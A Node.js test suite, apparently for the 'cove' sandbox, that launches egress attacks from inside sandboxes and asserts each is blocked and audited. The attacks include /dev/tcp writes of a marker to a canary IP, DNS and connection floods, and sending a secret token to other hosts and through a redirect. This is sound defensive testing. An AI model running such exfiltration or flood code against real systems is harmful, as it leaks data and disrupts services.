// Goal: nothing leaves a sandbox but what a rule allows, whoever tries, and each try is told once.
// Method: a bed of namespaces that no packet can leave (lib/bed.mjs); tests/egress/attacks makes every
// attempt inside, as daytona, as root, and as root with every capability in a user namespace of its
// own; others need the API and are made from here. An attempt is held when the client is told no, the
// canary, the DNS server, the uplink and the decoys saw nothing of it, the audit has exactly the
// records expected, and the twin that rules allow works. docs/egress.md is the outcome, which
// COVE_UPDATE=1 writes anew and which is compared otherwise.
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { Bed, enterBed } from './lib/bed.mjs';
import { Cove, bin, cmdline, pids, root, until } from './lib/cove.mjs';

enterBed(import.meta.url);

const page = join(root, 'docs/egress.md');
const variants = { daytona: { user: 'daytona' }, root: { user: 'root' }, 'root, all capabilities': { user: 'root', wrap: 'unshare -Ur ' } };
const neighbourPort = 8124;
const marker = `m${randomBytes(16).toString('hex')}`;
const matrix = new Map();  // "row title" -> { row, title, safe, seen: Map(column -> verdict) }
const box = {};
let bed, cove;

const policy = `
[policy]
registries = "none"
allow = ["allowed.test:443", "*.pkgs.test:443", "plain.test:80", "raw.test:5000"]
[[policy.rule]]
allow = "git.test:443"
methods = ["GET", "HEAD"]
paths = ["/org/**"]
inspect = true
[[policy.rule]]
allow = "clone.test:443"
methods = ["GET", "POST"]
paths = ["/org/*/info/refs?service=git-upload-pack", "/org/*/git-upload-pack"]
inspect = true
[[policy.rule]]
allow = "open.test:443"
inspect = true
[ai.providers.openai]
kind = "openai"
base_url = "https://model.test/v1"
`;

function record(row, title, safe, column, verdict) {
  const key = `${row} ${title}`;
  if (!matrix.has(key)) matrix.set(key, { row, title, safe, seen: new Map() });
  matrix.get(key).seen.set(column, verdict);
}

async function upload(id, to, bytes) {
  const form = new FormData();
  form.append('file', new Blob([bytes]), 'file');
  const res = await fetch(`${cove.url}/toolbox/${id}/files/upload?path=${to}`, { method: 'POST', body: form, headers: { authorization: `Bearer ${cove.key}` } });
  assert.equal(res.status, 200, await res.text());
}

// A process of each box that can be told apart from outside: the way to its network namespace.
const mark = (n) => 900000000 + process.pid * 10 + n;
function enter(n, ...command) {
  const pid = pids().find((p) => cmdline(p).startsWith(`sleep ${mark(n)}`));
  assert.ok(pid, 'the marked process');
  return execFileSync('nsenter', ['-t', `${pid}`, '-n', ...command], { encoding: 'utf8' });
}
const refusedPackets = (n) => Number(/counter packets (\d+) bytes \d+ reject/.exec(enter(n, 'nft', 'list', 'table', 'inet', 'cove'))[1]);

// The attempts' program, and trust in the bed's root beside what the sandbox trusts anyway.
async function equip(id) {
  await upload(id, '/tmp/attacks.pyz', readFileSync(bed.file('attacks.pyz')));
  await upload(id, '/tmp/bed.pem', readFileSync(bed.file('ca.pem')));
  const r = await cove.exec(id, 'cat /etc/ssl/certs/ca-certificates.crt /tmp/bed.pem > /tmp/ca.pem');
  assert.equal(r.exitCode, 0, r.result);
}

// What others would look for in a neighbour, and ears for what they would send it.
async function settleNeighbour() {
  box.neighbour = await cove.create();
  await upload(box.neighbour.id, '/tmp/neighbour.py', `
import os, select, socket
socks = []
for kind, port in ((socket.SOCK_STREAM, ${neighbourPort}), (socket.SOCK_DGRAM, 5353), (socket.SOCK_DGRAM, 137), (socket.SOCK_DGRAM, 1900), (socket.SOCK_DGRAM, 67)):
    s = socket.socket(socket.AF_INET, kind)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try: s.bind(('0.0.0.0', port))
    except OSError: continue
    if kind == socket.SOCK_STREAM: s.listen()
    socks.append(s)
s = socket.socket(socket.AF_UNIX); s.bind('\\0bed-neighbour'); s.listen(); socks.append(s)
for path in ('/dev/shm/bed-neighbour', '/tmp/bed-neighbour'): open(path, 'w').write('secret')
open('/tmp/heard', 'w').close()
while True:
    for s in select.select(socks, [], [])[0]:
        open('/tmp/heard', 'a').write(str(s.getsockname()) + chr(10))
        s.recv(9999) if s.type == socket.SOCK_DGRAM else s.accept()[0].close()
`);
  await equip(box.neighbour.id);
  await cove.exec(box.neighbour.id, 'setsid python3 /tmp/neighbour.py >/tmp/neighbour.log 2>&1 </dev/null & until [ -e /tmp/heard ]; do sleep 0.05; done');
}

before(async () => {
  bed = await Bed.start([marker]);
  cove = await Cove.start({ config: policy, env: { SSL_CERT_FILE: bed.file('ca.pem'), HTTPS_PROXY: 'http://203.0.113.10:3128', OPENAI_API_KEY: 'sk-bed-key' } });
  execFileSync('python3', ['-m', 'zipapp', join(root, 'tests/egress/attacks'), '-o', bed.file('attacks.pyz')]);
  await settleNeighbour();
  for (const [name, { user }] of Object.entries(variants)) {
    box[name] = await cove.create({ user });
    box[name].n = Object.keys(box).length;
    await cove.exec(box[name].id, `setsid sleep ${mark(box[name].n)} >/dev/null 2>&1 </dev/null &`);
    box[name].tag = randomBytes(4).toString('hex');
    await equip(box[name].id);
  }
});

after(async () => {
  try {
    await cove?.stop();
  } finally {
    bed?.stop();
  }
});

function segments() {
  const dir = join(cove.data, 'front/audit');
  return readdirSync(dir).filter((f) => f.startsWith('decisions-')).sort().map((f) => join(dir, f));
}

// Every record that the audit has about a sandbox, in order.
function auditOf(id) {
  const all = segments().flatMap((f) => readFileSync(f, 'utf8').trim().split('\n'));
  return all.filter((l) => l.includes(`"sandbox":"${id}"`)).map((l) => JSON.parse(l));
}

// What happened before the denied question `part-n` and after the one before it: a word for each decision.
function decisions(audit, part, n, tag) {
  const barrier = (r) => r.channel === 'dns' && r.host?.endsWith(`.${tag}.barrier.evil.test`);
  const end = audit.findIndex((r) => r.host === `${part}-${n}.${tag}.barrier.evil.test`);
  if (end < 0) return ['no barrier'];
  const own = audit.slice(audit.slice(0, end).findLastIndex(barrier) + 1, end);
  return own.filter((r) => r.kind === 'decision').map((r) => {
    const close = r.allow ? audit.find((c) => c.kind === 'close' && c.decision === r.seq) : null;
    const cut = close && !['allowed', 'client_closed', 'broken'].includes(close.reason) ? `>${close.reason}` : '';
    return (r.allow ? 'allowed' : r.reason) + cut + (r.repeats ? ` (${r.repeats} left out)` : '');
  });
}

// A pairing of what was expected with what was seen; 'a|b' takes either.
function sameDecisions(expected, seen) {
  if (expected.length !== seen.length) return false;
  const takenBy = seen.map(() => -1);
  const place = (e, tried) => seen.some((s, i) => {
    if (tried.has(i) || !expected[e].split('|').includes(s)) return false;
    tried.add(i);
    if (takenBy[i] >= 0 && !place(takenBy[i], tried)) return false;
    takenBy[i] = e;
    return true;
  });
  return expected.every((_, e) => place(e, new Set()));
}

// All three at once: each has its own sandbox, and most of the time is waiting.
const runs = {};
function runAttacks() {
  for (const [name, { wrap = '' }] of Object.entries(variants)) {
    const { id, tag, n } = box[name];
    const before = refusedPackets(n);
    const env = `BED_TAG=${tag} BED_MARKER=${marker} BED_VARIANT='${name}' BED_CA=/tmp/ca.pem BED_API_PORT=${cove.port} BED_NEIGHBOUR_ID=${box.neighbour.id} BED_NEIGHBOUR_PORT=${neighbourPort}`;
    runs[name] = cove.exec(id, `env ${env} ${wrap}python3 /tmp/attacks.pyz ${process.env.BED_ROWS ?? ''} 2>&1`, { timeout: 300 }).then((out) => ({ out, refused: refusedPackets(n) - before }));
  }
}

for (const name of Object.keys(variants)) {
  test(`${name}: every attempt is held, and its twin works`, async () => {
    const { id, tag } = box[name];
    if (!runs[name]) runAttacks();
    const { out, refused } = await runs[name];
    assert.equal(out.exitCode, 0, out.result);
    const rows = out.result.trim().split('\n').map((l) => JSON.parse(l));
    await until('the audit is written', () => decisions(auditOf(id), 'twin', rows.at(-1).n, tag)[0] !== 'no barrier');
    const audit = auditOf(id);
    const bad = [];
    for (const r of rows) {
      const wrong = [];
      for (const part of ['attempt', 'twin']) {
        const p = r[part];
        wrong.push(...p.wrong.map((w) => `${part}: ${w}`), ...outside(p.from, p.to).map((w) => `${part}: ${w}`));
        const seen = decisions(audit, part, r.n, tag);
        if (!sameDecisions(p.records, seen)) wrong.push(`${part}: audit has [${seen}], not [${p.records}]`);
      }
      record(r.row, r.title, r.safe, name, wrong.length ? 'ESCAPED' : 'held');
      if (wrong.length) bad.push(`${r.row} ${r.title}:\n    ${wrong.join('\n    ')}\n    seen: ${r.attempt.seen}`);
    }
    if (process.env.BED_SHOW) console.error(rows.map((r) => `${r.row} ${(r.attempt.to - r.attempt.from).toFixed(2)} ${(r.twin.to - r.twin.from).toFixed(2)} ${r.title}: ${r.attempt.seen}`).join('\n'));
    assert.equal(bad.length, 0, `\n${bad.join('\n')}`);
    // What has no name is counted where it is refused.
    const dropped = rows.reduce((sum, r) => sum + r.attempt.drops, 0);
    assert.ok(refused >= dropped, `${refused} counted of ${dropped}`);
  });
}

// What was seen outside between two times, of what must not be.
function outside(from, to) {
  const at = (l) => l.t >= from && l.t <= to;
  return [...bed.lines('uplink.log').filter((l) => l.what !== 'watched' && at(l)).map((l) => `on the uplink: ${JSON.stringify(l)}`),
    ...bed.lines('inet.log').filter((l) => l.what.startsWith('canary') && at(l)).map((l) => `the canary heard ${JSON.stringify(l)}`),
    ...bed.decoyHits.filter(at).map((l) => `a decoy was touched: ${JSON.stringify(l)}`)];
}

// An attempt from here, for each user: `make(box)` throws when it is not held.
function attack(row, title, safe, make) {
  for (const name of Object.keys(variants)) {
    test(`${name}: ${row} ${title}`, async () => {
      record(row, title, safe, name, 'ESCAPED');
      const began = Date.now() / 1000;
      await make(box[name], variants[name], name);
      assert.deepEqual(outside(began, Date.now() / 1000), []);
      record(row, title, safe, name, 'held');
    });
  }
}
// One that is the operator's or the machine's affair, whoever is inside.
function once(row, title, safe, make) {
  test(`${row} ${title}`, async () => {
    for (const name of Object.keys(variants)) record(row, title, safe, name, 'ESCAPED');
    await make();
    for (const name of Object.keys(variants)) record(row, title, safe, name, 'held');
  });
}

// Python inside that can use what the attempts use.
const inside = async (id, code, { wrap = '', tag = '0', timeout = 60 } = {}) => {
  await upload(id, '/tmp/inside.py', `import sys\nsys.path.insert(0, '/tmp/attacks.pyz')\nfrom bed import *\n${code}\n`);
  const r = await cove.exec(id, `env BED_TAG=${tag} BED_MARKER=${marker} BED_VARIANT=x BED_CA=/tmp/ca.pem ${wrap}python3 /tmp/inside.py 2>&1`, { timeout });
  assert.equal(r.exitCode, 0, r.result);
  return r.result.trim();
};
async function fresh(body) {
  const made = await cove.create(body);
  await equip(made.id);
  return made;
}
const settings = (id, body) => cove.api('POST', `/api/sandbox/${id}/network-settings`, body);
const getAllowed = "print(https('allowed.test', get('allowed.test', '/twin')))";

once('B15', 'rules that name more than they say: *.com, *.co.uk, *.test, github.*, *allowed.test', '400 with the reason; the policy stays', async () => {
  for (const list of ['*.com', '*.co.uk', '*.test', 'github.*', '*allowed.test', 'a.*.test', '*.github.io', 'allowed.test\0', 'allowed test', '203.0.113.10.', '*.']) {
    const r = await settings(box.neighbour.id, { domainAllowList: list });
    assert.equal(r.status, 400, `${list}: ${r.status} ${r.text}`);
  }
  const made = await fresh({ domainAllowList: '*.pkgs.test' });
  assert.equal(await inside(made.id, "print(https('x.pkgs.test', get('x.pkgs.test')))"), '200');
  assert.equal(await inside(made.id, "print(outcome_of(ask(question('allowed.test'))))"), 'nxdomain');
  await cove.remove(made.id);
});

once('own', 'a name that nobody has, on a machine with a search domain', 'that name is asked for and no other; 502', async () => {
  const made = await fresh({ domainAllowList: 'missing.example' });
  const r = await cove.exec(made.id, "curl -s -o /dev/null -w '%{http_code}' http://missing.example/");
  assert.equal(r.result.trim(), '502');
  await cove.remove(made.id);
});

attack('C17', '10 000 DNS queries as fast as they go', 'limited, told once; a neighbour waits no longer', async ({ id, tag }, { wrap }) => {
  const flood = () => inside(id, `
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('10.0.0.2', 53)); s.setblocking(False)
sent = 0
while sent < 10000:
    try: s.send(question('c17.evil.test', ident=sent & 0xffff)); sent += 1
    except BlockingIOError: time.sleep(0.001)
    try:
        while True: s.recv(600)
    except OSError: pass
print(sent)`, { wrap, tag });
  const p99 = async () => JSON.parse(await inside(box.neighbour.id, `
waits = []
for _ in range(200):
    began = time.monotonic(); assert ask(question('allowed.test'), wait=10); waits.append(time.monotonic() - began); time.sleep(0.002)
print(json.dumps(sorted(waits)))`))[197];
  const quiet = await p99();
  const first = flood();
  const flooded = await p99();
  // A busy machine makes both wait. Seconds would say nothing: the flood itself is over by then.
  assert.ok(flooded < Math.max(0.25, 10 * quiet), `p99 ${flooded} s, and ${quiet} s without the flood`);
  assert.equal(await first, '10000');
  const limited = () => auditOf(id).some((r) => r.channel === 'dns' && r.reason === 'limit');
  // A machine that is busy may take in fewer than the limit of one flood.
  for (let again = 0; again < 5 && !limited(); again++) await flood();
  await until('the limit is on record', limited);
  await until('the resolver answers again', async () => (await inside(id, "print(outcome_of(ask(question('allowed.test'))))")) === 'noerror');
});

attack('H19', 'the first instruction of a sandbox, and the last before its end', 'the rules are there before it and go after it', async (_, { user }) => {
  for (let i = 0; i < 2; i++) {
    const made = await cove.create({ user });
    const r = await cove.exec(made.id, `exec 3<>/dev/tcp/203.0.113.10/443 && echo ${marker} >&3 && timeout 2 cat <&3; echo ${marker} > /dev/udp/203.0.113.10/443; true`);
    assert.doesNotMatch(r.result, /canary/);
    await cove.exec(made.id, `trap '' TERM HUP; (trap '' TERM HUP; while :; do echo ${marker} > /dev/tcp/203.0.113.10/80; echo ${marker} > /dev/udp/203.0.113.10/80; done) >/dev/null 2>&1 </dev/null & sleep 0.1`);
    assert.equal((await cove.remove(made.id)).status, 200);
  }
});

attack('H20', 'the moment in which a policy is replaced', 'at no time is more allowed than by one of the two', async (_, { user, wrap }) => {
  const made = await fresh({ user, domainAllowList: 'allowed.test' });
  const tries = inside(made.id, `
seen = set(); end = time.monotonic() + 2.5; n = 0
while time.monotonic() < end:
    n += 1
    seen.add(outcome_of(ask(question(f'{n}.h20.evil.test')))); seen.add(talk(CANARY, 443, hello(server_name('plain.test')))); time.sleep(0.01)
print(sorted(seen), n > 20)`, { wrap });
  let over = false;
  tries.finally(() => (over = true));
  for (let i = 0; !over; i++) assert.equal((await settings(made.id, { domainAllowList: i % 2 ? 'allowed.test' : 'git.test,*.pkgs.test' })).status, 200);
  assert.equal(await tries, "['nxdomain', 'reset'] True");
  await cove.remove(made.id);
});

once('I03', 'the preview of another owner\'s sandbox', 'asks for its token', async () => {
  const { json } = await cove.api('GET', `/api/sandbox/${box.neighbour.id}/ports/${neighbourPort}/preview-url`);
  const r = await fetch(`http://127.0.0.1:${cove.port}/`, { headers: { 'x-forwarded-host': new URL(json.url).host } });
  assert.notEqual(r.status, 200);
  const direct = execFileSync('curl', ['-s', '-o', '/dev/null', '-w', '%{http_code}', '-H', `Host: ${new URL(json.url).host}`, `http://127.0.0.1:${cove.port}/`], { encoding: 'utf8' });
  assert.match(direct, /^(30.|40.)$/);
});

attack('I11', 'SSH into a sandbox with forwarding', 'there is no SSH server', async ({ id }) => {
  const r = await cove.api('POST', `/api/sandbox/${id}/ssh-access?expiresInMinutes=5`, {});
  assert.ok(r.status >= 400, `${r.status}`);
});

attack('J02', '2000 connections that say nothing', '512 at a time and 16 being told; the rest reset; on record once; a neighbour has its own', async (_, { user, wrap }) => {
  const made = await fresh({ user });
  const flood = inside(made.id, `
import resource; resource.setrlimit(resource.RLIMIT_NOFILE, (min(4000, resource.getrlimit(resource.RLIMIT_NOFILE)[1]),) * 2)
held, refused = [], 0
for i in range(2000):
    try: held.append(connect(CANARY, 9000, wait=5))
    except Refused: refused += 1
time.sleep(1)
alive = 0
for s in held:
    s.setblocking(False)
    try: s.recv(1)
    except BlockingIOError: alive += 1
    except OSError: pass
print(alive)`, { wrap });
  assert.equal(await inside(box.neighbour.id, getAllowed), '200');
  const alive = Number(await flood);
  assert.ok(alive <= 528 && alive > 400, `${alive} at once`);
  assert.equal(auditOf(made.id).filter((r) => r.reason === 'limit').length, 1);
  assert.equal((await cove.api('GET', '/health')).status, 200);
  await cove.remove(made.id);
});

attack('J03', 'a rule is taken away while a tunnel and an opened connection are up', 'both are cut within 3 seconds, and told', async (_, { user, wrap }) => {
  const made = await fresh({ user, });
  const held = inside(made.id, `
s = tls('allowed.test'); r = dial('raw.test', 5000)
open('/tmp/up', 'w').close()
began = time.monotonic()
print(listen_to(s, 8), listen_to(r, 8), time.monotonic() - began < 6)`, { wrap });
  await until('the tunnel is up', async () => (await cove.exec(made.id, 'ls /tmp/up')).exitCode === 0);
  assert.equal((await settings(made.id, { networkBlockAll: true })).status, 200);
  assert.match(await held, /^(reset|closed) (reset|closed) True$/);
  await until('both ends are on record', () => auditOf(made.id).filter((r) => r.kind === 'close' && r.reason === 'revoked').length === 2);
  await cove.remove(made.id);
});

attack('K07', 'a secret\'s placeholder for another host, over plain HTTP, after a redirect, echoed back', 'the value is put in for its host only, and hidden in answers', async (_, { user, wrap }, name) => {
  const value = `s3cr3t${randomBytes(12).toString('hex')}`;
  const label = `bed-${randomBytes(4).toString('hex')}`;
  const made = await cove.api('POST', '/api/secret', { name: label, value, hosts: ['open.test'] });
  assert.ok(made.status < 300, made.text);
  const one = await fresh({ user, secrets: [{ TOKEN: label }] });
  const seen = await inside(one.id, `
token = os.environ['TOKEN']
for make in (https, http): print(make('open.test' if make is https else 'plain.test', get('open.test' if make is https else 'plain.test', '/token', 'Authorization: Bearer ' + token)))
print(https('x.pkgs.test', get('x.pkgs.test', '/token', 'Authorization: Bearer ' + token)), https('git.test', get('git.test', '/org/token?t=' + token, 'Authorization: Bearer ' + token)))
with tls('open.test') as s:
    send(s, get('open.test', '/echo', method='POST', body=token.encode()))
    print(rest_of(s, listen_to(s, 4, b'\\r\\n\\r\\n')).decode())
print(https('open.test', get('open.test', '/redirect-evil', 'Authorization: Bearer ' + token)))`, { wrap });
  assert.ok(!seen.includes(value), seen);
  const sent = bed.lines('inet.log').filter((l) => l.what === 'request' && JSON.stringify(l).includes(value));
  assert.deepEqual([...new Set(sent.map((l) => /Host: (\S+)/i.exec(l.raw)[1]))], ['open.test'], seen);
  assert.ok(!JSON.stringify(auditOf(one.id)).includes(value));
  await cove.remove(one.id);
  await cove.api('DELETE', `/api/secret/${made.json.id}`);
});

attack('J12', 'a snapshot of a sandbox with a wide policy, started with a narrow one', 'policy and identity are the new sandbox\'s', async (_, { user }, name) => {
  const wide = await fresh({ user, domainAllowList: 'allowed.test,plain.test' });
  assert.equal(await inside(wide.id, getAllowed), '200');
  const shot = `bed-${name.replaceAll(/[^a-z]/g, '')}-${process.pid}`;
  assert.ok((await cove.api('POST', `/api/sandbox/${wide.id}/snapshot`, { name: shot })).status < 300);
  await cove.remove(wide.id);
  const narrow = await until('the snapshot is active', async () => {
    const r = await cove.api('POST', '/api/sandbox', { snapshot: shot, env: {}, labels: {}, user, domainAllowList: 'plain.test' });
    return r.status === 200 ? r.json : null;
  });
  assert.equal(await inside(narrow.id, "print(outcome_of(ask(question('allowed.test'))), talk(CANARY, 443, hello(server_name('allowed.test'))))"), 'nxdomain reset');
  assert.equal(await inside(narrow.id, "print(http('plain.test', get('plain.test', '/')))"), '200');
  assert.ok(auditOf(narrow.id).length >= 3, 'under its own id');
  await cove.remove(narrow.id);
  await cove.api('DELETE', `/api/snapshots/${shot}`);
});

// What the server says when it is started with a configuration; it must not start.
function refusedConfig(text, word) {
  writeFileSync(bed.file('bad.toml'), text);
  const r = spawnSync(bin, ['serve', '--listen', '127.0.0.1:0', '--data', bed.file('data'), '--config', bed.file('bad.toml')], { encoding: 'utf8', timeout: 20000, env: { ...process.env, COVE_ADMIN_KEY: '' } });
  assert.ok(r.status > 0, `${text}: ${r.status} ${r.signal}`);
  assert.ok((r.stderr + r.stdout).includes(word), `${text}: ${r.stderr}`);
}

once('J09', 'policies with an unknown key, a bad rule, a bad value, no end; a file that is not there', 'the server does not start, and says why', async () => {
  refusedConfig('[policy]\nallwo = ["x.test"]', 'allwo');
  refusedConfig('[policy]\nallow = ["git*.com"]', 'git*');
  refusedConfig('[policy]\ndefault = "maybe"', 'bad.toml:2');
  refusedConfig('[policy]\nallow = [', 'bad.toml');
  refusedConfig('[[policy.rule]]\nallow = "x.test"\nmetods = ["GET"]', 'metods');
  refusedConfig('[policy]\npresets = ["nmp"]', 'nmp');
  const r = spawnSync(bin, ['serve', '--listen', '127.0.0.1:0', '--data', bed.file('data'), '--config', bed.file('absent.toml')], { encoding: 'utf8', timeout: 20000 });
  assert.ok(r.status > 0, r.stderr);
});

once('J04', 'a rule with an end in time', 'there is none: the key is refused, so nobody relies on it', async () => {
  refusedConfig('[[policy.rule]]\nallow = "x.test"\nuntil = "2030-01-01"', 'until');
});

once('J07', 'the record after all this; a copy of it in which one answer is another', 'every record follows from the one before; the change is found', () => {
  assert.equal(cove.cli(['audit', 'verify']).status, 0);
  const [segment] = segments().slice(-1);
  const copy = bed.file('copy.ndjson');
  writeFileSync(copy, readFileSync(segment));
  assert.equal(cove.cli(['audit', 'verify', copy]).status, 0);
  writeFileSync(copy, readFileSync(segment, 'utf8').replace('"reason":"no_name"', '"reason":"allowed"'));
  assert.notEqual(cove.cli(['audit', 'verify', copy]).status, 0);
});

// From here on with another policy of the server's: everything is allowed that may be.
test('the server starts again with the rule *', async () => {
  writeFileSync(cove.configFile, '[policy]\nregistries = "none"\nallow = ["*"]\n');
  cove.server.child.kill('SIGTERM');
  await until('the server ended', () => cove.server.ended);
  await cove.launch('127.0.0.1:0');
});

attack('C04', 'DNS over HTTPS resolvers under the rule *', 'NXDOMAIN, dns_over_https', async ({ id, tag }, { wrap }) => {
  const answers = `print(*[outcome_of(ask(question(n))) for n in ('dns.google', 'cloudflare-dns.com', 'doh.opendns.com')], ${getAllowed.slice(6)}`;
  const had = auditOf(id).length;
  assert.equal(await inside(id, answers, { wrap, tag }), 'nxdomain nxdomain nxdomain 200');
  await until('it is on record', () => auditOf(id).slice(had).filter((r) => r.reason === 'dns_over_https').length === 3);
});

attack('own', 'private addresses and other ports under the rule *', 'never dialled; not allowed', async ({ id, tag }, { wrap }) => {
  const r = await inside(id, `
for name in ('a-7f000001', 'a-a9fea9fe', 'a-0a4d0002', 'q-' + '1'.rjust(32, '0')):
    print(https(name + '.pkgs.test', get('x')), http(name + '.pkgs.test', get(name + '.pkgs.test')), say(name + '.pkgs.test', 22222, b'x'))`, { wrap, tag });
  assert.match(r, /^(reset 403 address_not_public (reset|unreachable)\s*){4}$/);
});

once('own', 'the front is killed three times while attempts are made', 'nothing passes without it; after it the rules are the same', async () => {
  const { id } = box.neighbour;
  await upload(id, '/tmp/tries.py', `import sys\nsys.path.insert(0, '/tmp/attacks.pyz')\nfrom bed import *
seen = set(); open('/tmp/up', 'w').close()
while not os.path.exists('/tmp/enough'): seen.add(talk(CANARY, 25, b'x', wait=2)); time.sleep(0.02)
print(sorted(seen), file=open('/tmp/tries.out', 'w'), flush=True); os.rename('/tmp/tries.out', '/tmp/tries')\n`);
  await cove.exec(id, `BED_TAG=0 BED_MARKER=${marker} BED_VARIANT=x BED_CA=/tmp/ca.pem setsid python3 /tmp/tries.py >/tmp/tries.log 2>&1 </dev/null &`);
  const exists = async (path) => (await cove.exec(id, `test -e ${path}`)).exitCode === 0;
  await until('it began', () => exists('/tmp/up'));
  for (let i = 0; i < 3; i++) {
    const front = cove.frontPid;
    process.kill(front, 'SIGKILL');
    await until('a new front serves', async () => cove.frontPid && cove.frontPid !== front && (await cove.api('GET', `/api/sandbox/${id}`).catch(() => ({}))).status === 200);
  }
  await cove.exec(id, 'touch /tmp/enough');
  await until('it ended', () => exists('/tmp/tries'));
  assert.match((await cove.exec(id, 'cat /tmp/tries')).result, /^\[('(reset|timeout|refused|closed)',? ?)+\]$/m);
  assert.equal(await inside(id, getAllowed), '200');
});

test('nothing of the marker was ever outside; the canary heard nothing', async () => {
  const told = bed.lines('inet.log');
  assert.deepEqual(told.filter((l) => l.what.startsWith('canary')), []);
  assert.deepEqual(told.filter((l) => JSON.stringify(l).includes(marker)), []);
  assert.deepEqual(told.filter((l) => l.what === 'dns' && /(^|\.)evil\.test$/.test(l.name)), []);
  assert.ok(told.some((l) => l.what === 'dns' && l.name === 'missing.example'), 'the name itself was asked for');
  assert.deepEqual(told.filter((l) => l.what === 'dns' && l.name.startsWith('missing.example.')), []);
  const uplink = bed.lines('uplink.log');
  assert.deepEqual(uplink.filter((l) => l.what !== 'watched'), []);
  const watched = uplink.at(-1);
  assert.ok(watched.frames > 100 && watched.drops === 0, JSON.stringify(watched));
  assert.deepEqual(bed.decoyHits, []);
  assert.equal((await cove.exec(box.neighbour.id, 'cat /tmp/heard')).result, '');
});

// The rows of the list of attempts that this answers; all others are our own, and say so.
const listed = `A01 A02 A03 A04 A06 A11 A12 B01 B04 B06 B08 B09 B10 B11 B12 B15 B16 B17 C01 C02 C04 C05 C09 C11 C12 C14 C16 C17 D02 D04 D06 D07 D08 E03 E04 E05 E08 E09 E11 E12 F02 F03 F04 F05 F07
F08 F10 F14 F15 F16 F18 G01 G02 G03 G05 G09 G11 G12 G14 H01 H03 H04 H05 H06 H07 H09 H10 H13 H15 H16 H19 H20 I01 I02 I03 I04 I06 I09 I11 J02 J03 J04 J05 J07 J09 J12 K01 K03 K04 K06 K07 K10`.split(/\s/);
test('every row of the list was tried, and no attempt of our own goes by such a name', () => {
  assert.deepEqual([...new Set([...matrix.values()].map((r) => r.row))].sort(), [...listed, 'own'].sort());
});

test('docs/egress.md says what was seen', () => {
  const peers = JSON.parse(readFileSync(join(root, 'tests/egress/peers.json'), 'utf8'));
  const columns = Object.keys(variants);
  const others = Object.keys(peers);
  const order = ({ row }) => (row === 'own' ? 'Z' : row);
  const rows = [...matrix.values()].sort((a, b) => (order(a) + a.title < order(b) + b.title ? -1 : 1));
  const line = (r) => `| ${r.row} | ${r.title.replaceAll('|', '\\|')} | ${r.safe} | ${columns.map((c) => r.seen.get(c) ?? '-').join(' | ')} | ${others.map((o) => peers[o].rows[`${r.row} ${r.title}`]?.verdict ?? '-').join(' | ')} |`;
  const head = readFileSync(page, 'utf8').split('<!-- the matrix -->')[0];
  const text = `${head}<!-- the matrix -->

${rows.length} attempts: for ${new Set(rows.map((r) => r.row)).size - 1} rows of the list, and our own; ${rows.length * columns.length} outcomes.

| row | attempt | safe outcome | ${columns.join(' | ')} | ${others.map((o) => `${o} ${peers[o].version}`).join(' | ')} |
|---|---|---|${columns.map(() => '---|').join('')}${others.map(() => '---|').join('')}
${rows.map(line).join('\n')}
`;
  if (process.env.COVE_UPDATE) writeFileSync(page, text);
  assert.equal(readFileSync(page, 'utf8'), text);
});
